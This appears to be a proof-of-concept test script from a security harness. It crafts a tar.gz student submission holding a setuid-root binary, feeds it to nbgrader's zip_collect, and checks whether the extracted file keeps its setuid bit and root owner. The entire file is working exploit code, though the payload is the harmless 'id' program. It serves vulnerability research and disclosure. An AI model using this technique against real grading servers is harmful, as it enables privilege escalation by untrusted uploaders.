"""a20: a02's setuid through a .tar.gz upload (setuptools' unpack_tarfile -> tarfile._extract_member keeps the
member's mode; chown is skipped, so the owner is the TA: root)."""
import os, sys, subprocess, tarfile, io
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
regexp = r".*_(?P<student_id>\w+)_attempt_(?P<timestamp>[0-9\-]+)_(?P<file_id>\w+)"
d = make_course("tarsuid")
arch = f"{d}/downloaded/ps1_memory/archive"; os.makedirs(arch)
good = solution_nb()
for i, s in enumerate(("aaron", "mallory", "zoe")):
    nbformat.write(good, f"{arch}/ps1_memory_{s}_attempt_2024-01-30-15-0{i}-00_ps1_memory.ipynb")
data = open("/usr/bin/id", "rb").read()
with tarfile.open(f"{arch}/ps1_memory_mallory_attempt_2024-01-30-15-09-00_t.tar.gz", "w:gz") as tf:
    ti = tarfile.TarInfo("id"); ti.size = len(data); ti.mode = 0o6755; tf.addfile(ti, io.BytesIO(data))
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "zip_collect", "ps1_memory", f"--FileNameCollectorPlugin.named_regexp={regexp}"],
                   cwd=d, capture_output=True, text=True)
p = f"{d}/downloaded/ps1_memory/extracted/ps1_memory_mallory_attempt_2024-01-30-15-09-00_t/id"
print("zip_collect rc", r.returncode)
if os.path.exists(p):
    st = os.stat(p); print("extracted:", oct(st.st_mode), "uid", st.st_uid, "gid", st.st_gid)
    print("run as nobody:", subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", p], capture_output=True, text=True).stdout.strip())
print("collected:", sorted(os.listdir(f"{d}/submitted")))
